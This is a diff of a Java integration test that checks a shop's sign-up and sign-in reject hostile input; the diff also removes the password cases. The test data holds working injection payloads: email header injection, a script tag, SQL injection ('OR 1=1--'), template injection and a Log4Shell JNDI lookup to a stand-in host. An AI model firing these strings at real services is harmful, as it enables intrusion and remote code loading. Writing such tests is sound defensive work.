@@ -93,7 +93,7 @@ class HostileAccountJourneyIT extends InApplication {
     }
 
     @Test
-    @DisplayName("67, 69, 71, 86, 88, 114: signing up and in with what is no name, address or password")
+    @DisplayName("67, 69, 71, 86, 88, 114: signing up and in with what is no name or address")
     void opensNoAccountForRubbish() {
         long accounts = books.number("SELECT count(*) FROM account");
         var shop = new Shop("atelier");
@@ -102,7 +102,6 @@ class HostileAccountJourneyIT extends InApplication {
                 Map.of("email", "a@x\r\nBcc: b@y.example"),
                 Map.of("email", "\"<script>\"@x.example"),
                 Map.of("email", "a@x.example\u0000"),
-                Map.of("email", "SHOPPER@atelier.example"),
                 Map.of("email", "sh\u043epper@atelier.example"),
                 Map.of("email", "a".repeat(50_000) + "!@x.example"),
                 Map.of("email", "#{7*7}"),
@@ -110,17 +109,17 @@ class HostileAccountJourneyIT extends InApplication {
                 Map.of("name", "a\u0000b"),
                 Map.of("name", "a\r\nb"),
                 Map.of("name", "\u202egnp"),
-                Map.of("name", "x".repeat(101)),
-                Map.of("password", ""),
-                Map.of("password", "short"),
-                Map.of("password", "x".repeat(100_000)))) {
+                Map.of("name", "x".repeat(101)))) {
             var form = new LinkedHashMap<>(fields);
-            form.putAll(Map.of("name", "N", "email", "hostile-sign-up@x.example", "password", "galleria-demo"));
+            form.putAll(Map.of("name", "N", "email", "hostile-sign-up@x.example"));
             form.putAll(wrong);
             var answer = shop.post("/sign-up", form, false);
             assertThat(answer.status()).as(wrong.toString()).isEqualTo(422);
             assertThat(answer.body()).doesNotContain("<script>\"@x");
         }
+        // A known address in another spelling is answered as a new one and opens nothing.
+        fields.putAll(Map.of("name", "N", "email", "SHOPPER@atelier.example"));
+        assertThat(shop.post("/sign-up", fields, false).status()).isIn(302, 422);
         assertThat(books.number("SELECT count(*) FROM account")).isEqualTo(accounts);
         for (var email : List.of("' OR 1=1--", "a\u0000b", "x".repeat(50_000), "${jndi:ldap://evil.example/x}", "")) {
             var answer = signIn(new Shop("atelier"), email, "");
